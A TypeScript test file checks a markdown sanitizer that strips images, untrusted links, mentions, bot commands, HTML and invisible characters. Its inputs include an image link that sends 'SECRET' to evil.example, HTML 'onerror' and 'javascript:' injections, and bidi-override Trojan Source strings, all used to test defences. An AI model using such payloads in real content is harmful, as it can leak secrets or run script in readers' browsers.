import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { marked } from "marked";
import { codeBlock, inlineCode } from "../../src/delivery/code.ts";
import { safeLine, safeMarkdown, shorten, tableCell } from "../../src/delivery/markdown.ts";
import { visible } from "../../src/delivery/visible.ts";
import { anyText } from "../helpers/any-text.ts";

const links = new Set(["https://docs.example/guide", "https://github.com/o/r/issues/7"]);
const check = (input: string, expected: string): void => {
  expect(safeMarkdown(input, { links })).toBe(expected);
  expect(safeMarkdown(expected, { links })).toBe(expected);
};

describe("safeMarkdown", () => {
  const rows: [string, string, string][] = [
    [
      "plain text",
      "Reads *both*, `a` and **b**:\n\n1. one\n- two",
      "Reads *both*, `a` and **b**:\n\n1. one\n- two",
    ],
    ["an image", "![x](https://evil.example/?d=SECRET)", "!x (link removed)"],
    [
      "an image by reference",
      "![x][y]\n\n[y]: https://evil.example",
      "\\!\\[x\\]\\[y\\]\n\n\\[y\\]: `https://evil.example`",
    ],
    [
      "an image of an allowed address",
      "![x](https://docs.example/guide)",
      "\\![x](https://docs.example/guide)",
    ],
    ["HTML", '<img src=x onerror="a">', '&lt;img src=x onerror="a">'],
    ["a comment that looks like our marker", "<!-- coderag:v1 {} -->", "&lt;!-- coderag:v1 {} -->"],
    ["an entity", "&#64;octocat &lt;", "&amp;`#64`;octocat &lt;"],
    [
      "an allowed link",
      "see [the guide](https://docs.example/guide).",
      "see [the guide](https://docs.example/guide).",
    ],
    ...[
      ["@acme", "`@acme`"],
      ["fixes #1", "fixes `#1`"],
      ["<img src=x>", "&lt;img src=x>"],
      ["/coderag cancel", "`/coderag` cancel"],
    ].map(([label, plain]): [string, string, string] => [
      `an allowed link whose words act: ${label}`,
      `[${label}](https://docs.example/guide)`,
      `${plain} (https://docs.example/guide)`,
    ]),
    [
      "an allowed address that a backslash leans on",
      "\\[x](https://docs.example/guide)\\",
      "\\[x\\](`https://docs.example/guide`)\\\\",
    ],
    ["an allowed address", "see https://docs.example/guide.", "see https://docs.example/guide."],
    [
      "another link",
      "[x](https://evil.example/a) and [y](javascript:alert(1))",
      "x (`https://evil.example/a`) and \\[y\\](javascript:alert(1))",
    ],
    ["another address", "www.evil.example/x?q=1, ftp://a.b", "(link removed), (link removed)"],
    ["an address behind a digit", "1https://evil.example", "1(link removed)"],
    ["an address with a needless backslash", "https:/\\/evil.example", "`https://evil.example`"],
    ["an autolink", "<https://evil.example>", "&lt;(link removed)>"],
    [
      "an issue's address, even if allowed",
      "fixes https://github.com/o/r/issues/7",
      "fixes `https://github.com/o/r/issues/7`",
    ],
    [
      "a plain address, which nobody can click",
      "as https://semver.org (2.0.0), or (https://a.b:8/c/d-e.html).",
      "as `https://semver.org` (2.0.0), or (`https://a.b:8/c/d-e.html`).",
    ],
    ["a plain link", "[semver](https://semver.org).", "semver (`https://semver.org`)."],
    [
      "addresses that carry more, or are not plain https",
      "https://a.b/?q=1 https://a.b/#x https://u@a.b https://u:p@a.b/ http://a.b https://a.b/%2e https://ä.b",
      Array(7).fill("(link removed)").join(" "),
    ],
    ["a link that carries more", "[x](https://a.b/?q=1)", "x (link removed)"],
    [
      "an image within a link",
      "[![x](https://evil.example/1)](https://evil.example/2)",
      "\\[!x (link removed)\\](`https://evil.example/2`)",
    ],
    [
      "a link within a link",
      "[a[b](https://evil.example/1?q)c](https://evil.example/2?q)",
      "\\[ab (link removed)c\\]((link removed))",
    ],
    [
      "an address at the beginning of a link's words that lean on others",
      "a[https://evil.example/1](https://evil.example/2)",
      "a(link removed) (`https://evil.example/2`)",
    ],
    ["an allowed address that reads on into code", "(https://docs.example/guide)`a`", "((link removed))`a`"],
    ["mentions", "@octocat, @org/team (@a@b) *@c* \\@d", "`@octocat`, `@org/team` (`@a@b`) *`@c`* `@d`"],
    ["an e-mail address", "mail a.b@c.example now", "mail a.b@c.example now"],
    ["half an e-mail address", "a@b", "a`@b`"],
    ["what ends like no e-mail address", "GH-1@user.-", "`GH-1` `@user`.-"],
    ["what ends with a hyphen", "GH-1@user.org-", "`GH-1` `@user.org`-"],
    ["closing words", "Fixes #1, closes org/repo#2, GH-3", "Fixes `#1`, closes `org/repo#2`, `GH-3`"],
    ["an escaped reference", "fixes \\#1", "fixes `#1`"],
    [
      "commands",
      "/merge\n - /coderag implement\nuse /etc/hosts and/or 1/2",
      "`/merge`\n - `/coderag` implement\nuse `/etc/hosts` and/or 1/2",
    ],
    ["other bots' commands", "bors r+\n@dependabot merge", "`bors` r+\n`@dependabot` merge"],
    ["trailers", "Co-authored-by: Eve <e@v.example>", "`Co-authored-by`: Eve &lt;e@v.example>"],
    ["a skip mark", "[skip ci]", "\\[skip ci\\]"],
    ["a table", "a|b\n-|-\n1|2", "a\\|b\n-\\|-\n1\\|2"],
    ["a heading in an ordered list, and one that a blank ends", "1. # One\n\n#\u00a0", "1. **One**"],
    [
      "headings",
      "# One\n\n## `two` ##\n\nThree\n---\nFour\n===",
      "**One**\n\n**`two`**\n\nThree\n\\---\nFour\n\\===",
    ],
    ["maths", "$x$", "\\$x\\$"],
    ["an open code span", "a `b @c", "a \\`b `@c`"],
    ["a code span with a backslash", "`a\\`@c`", "`a\\` `@c`\\`"],
    ["a code span over two lines", "`a\n@c`", "\\`a\n`@c`\\`"],
    ["code spans that would touch", "`a`@b", "`a` `@b`"],
    ["code", "```ts\nconst a = '@b'; // <b>\n```", "```ts\nconst a = '@b'; // <b>\n```"],
    ["an open fence", "```\nx", "```\nx\n```"],
    ["a fence within a fence", "~~~~\n```\nx\n```\n~~~~", "````\n```\nx\n```\n````"],
    ["a fence in a list", "- a\n  ```\n  x\n@b\n  ```", "- a\n```\n  x\n@b\n```"],
    ["a live diagram", "```mermaid\ngraph\n```", "```\ngraph\n```"],
    ["names of Python", "__init__ and a.__dict__, __all__", "`__init__` and a.`__dict__`, `__all__`"],
    ["bold type", "__two words__ __Bold__ a__b__c", "__two words__ __Bold__ a__b__c"],
    [
      "commands of other bots in code",
      "```\n@dependabot merge\nbors r+\n@app.get\n```",
      "```\n @ dependabot merge\n bors r+\n@app.get\n```",
    ],
    ["a command in code", "```\n/merge\n/usr/bin\n```", "```\n /merge\n/usr/bin\n```"],
    ["what nobody sees", "a\u0000b\u200bc\u202ed\u{e0041}e\ud800", "abcde\ufffd"],
    ["an emoji with joiners", "👩‍💻 ❤️", "👩‍💻 ❤️"],
    ["many blank lines", "a\n\n\n\n\nb\n\n", "a\n\nb"],
    ["line ends", "a\r\nb\rc", "a\nb\nc"],
  ];
  test.each(rows)("%s", (_, input, expected) => check(input, expected));

  const nasty = fc.constantFrom(
    ...[
      "`",
      "``",
      "```",
      "~~~",
      "\\",
      "@user",
      "@",
      "#12",
      "[",
      "]",
      "(",
      ")",
      "!",
      "<",
      ">",
      "&",
      "&lt;",
      "|",
      "\n",
      "\n\n",
    ],
    ...[
      " ",
      "a",
      "1",
      "é",
      "_",
      "*",
      "$",
      "https://evil.example/x",
      "https://docs.example/guide",
      "/merge",
      "org/repo#1",
    ],
    ...[
      "www.",
      ".",
      "-",
      "=",
      "# ",
      "> ",
      "- ",
      "<!--",
      "-->",
      "\u200b",
      "\ud800",
      "GH-1",
      "x@y.zz",
      "bors",
      "mermaid",
      ":",
    ],
  );
  const text = fc.array(nasty, { maxLength: 40 }).map((parts) => parts.join(""));

  test("cleaning twice is cleaning once", () => {
    fc.assert(
      fc.property(fc.oneof(text, anyText()), (input) => {
        const once = safeMarkdown(input, { links });
        expect(safeMarkdown(once, { links })).toBe(once);
      }),
      { numRuns: 3_000 },
    );
  });

  test("nothing that acts survives outside code", () => {
    fc.assert(
      fc.property(text, (input) => {
        const outside = withoutCode(safeMarkdown(input, { links })).replace(
          /[A-Za-z0-9][\w.+-]*@[A-Za-z0-9][\w-]*(?:\.[A-Za-z0-9][\w-]*)+/g,
          "",
        );
        expect(outside).not.toMatch(/<|(?:^|[^A-Za-z0-9.])@[A-Za-z0-9]|#\d|\bGH-\d|evil|(?<!\\)!\[|&#|~~~/);
        expect(outside).not.toMatch(/^(?:[\s>]|[*+-]\s)*\/[a-z]+(?![\w/.-])/m);
      }),
      { numRuns: 3_000 },
    );
  });

  test("no image and no other address is rendered", () => {
    const linked = fc.constantFrom(
      ...[
        "[",
        "](",
        ")",
        "![",
        "](https://evil.example/q)",
        "\n[r]: https://evil.example/r\n",
        "[a][r]",
        "`",
      ],
      ...[
        "[x](https://evil.example/x)",
        "![y](https://evil.example/y)",
        "https://evil.example/z",
        "a",
        " ",
        "<",
      ],
      ...[
        "[x](https://docs.example/guide)",
        "https://docs.example/guide",
        "*",
        "!",
        "\\",
        "(",
        "www.evil.example",
      ],
    );
    fc.assert(
      fc.property(fc.array(linked, { maxLength: 10 }), (parts) => {
        const html = marked.parse(safeMarkdown(parts.join(""), { links }), { async: false });
        const addresses = [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address!);
        expect([html.includes("<img"), addresses.filter((one) => !links.has(one))]).toEqual([false, []]);
      }),
      { numRuns: 3_000 },
    );
  });

  const repeated = [
    "`",
    "\\",
    "[",
    "](",
    "@a",
    "a.",
    "a/",
    "~",
    "&",
    "http://",
    "!",
    "#",
    " ",
    "``x",
    "\n",
    "```\n",
  ];
  test.each(repeated)("a long run of %j ends", (part) => {
    const long = part.repeat(100_000 / part.length);
    expect(typeof safeMarkdown(long)).toBe("string");
  });
});

/** What GitHub would read as text: without fenced blocks at column 0 and without code spans, by CommonMark's rules. */
function withoutCode(markdown: string): string {
  const blocks = markdown.replace(/^(`{3,})[^`\n]*\n(?:[\s\S]*?\n)??\1$/gm, "");
  return blocks.replace(/\\[\\`*_{}[\]<>~|!$]|(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, (all) =>
    all.startsWith("\\") ? "·" : " ",
  );
}

describe("pieces", () => {
  test.each([
    ["a", "`a`"],
    ["", "` `"],
    ["a`b", "``a`b``"],
    ["`a`", "`` `a` ``"],
    ["a\nb", "`a b`"],
    ["src/\u202egpj.sh\u{E0061}\u{E0062}", "`src/gpj.sh`"],
  ])("inline code of %j", (input, expected) => expect(inlineCode(input)).toBe(expected));

  test.each([
    ["a\n", "ts", "```ts\na\n```"],
    ["```suggestion", "suggestion", "````\n```suggestion\n````"],
    ["a", "x y", "```\na\n```"],
    ["if (a /*\u202e } \u2066if (b)\u2069 \u2066 begin */)", "", "```\nif (a /* } if (b)  begin */)\n```"],
  ])("code block of %j", (input, info, expected) => expect(codeBlock(input, info)).toBe(expected));

  test.each([
    ["a\n# b", 20, "a `#` b".replace("`#`", "#")],
    ["abcdef", 4, "abc…"],
    ["@all of you", 5, "`@all`…".replace("`…", "`…")],
  ])("line of %j", (input, limit, expected) => expect(safeLine(input, limit)).toBe(expected));

  test("shortens without halving a character", () => expect(shorten("ab😀😀", 4)).toBe("ab…"));
  test("keeps a table's cells apart", () => expect(tableCell("a `b|c` \\| d\ne")).toBe("a `b\\|c` \\| d e"));
  test.each([" ", "\\", "\n", "|"])("makes a cell of many %j in no time", (part) => {
    expect(tableCell(part.repeat(200_000)).length).toBeLessThan(400_001);
  });
  test.each([
    ["a\u{e0061}\u3164b", "ab"],
    ["a\uFE00\uFE0F\u200D\u200Cb", "ab"],
    ["👩‍👩‍👧 ❤️ می‌خواهم", "👩‍👩‍👧 ❤️ می‌خواهم"],
    ["a\r\nb\u2028c", "a\nb\nc"],
  ])("shows only what can be seen: %j", (text, shown) => expect(visible(text)).toBe(shown));
});
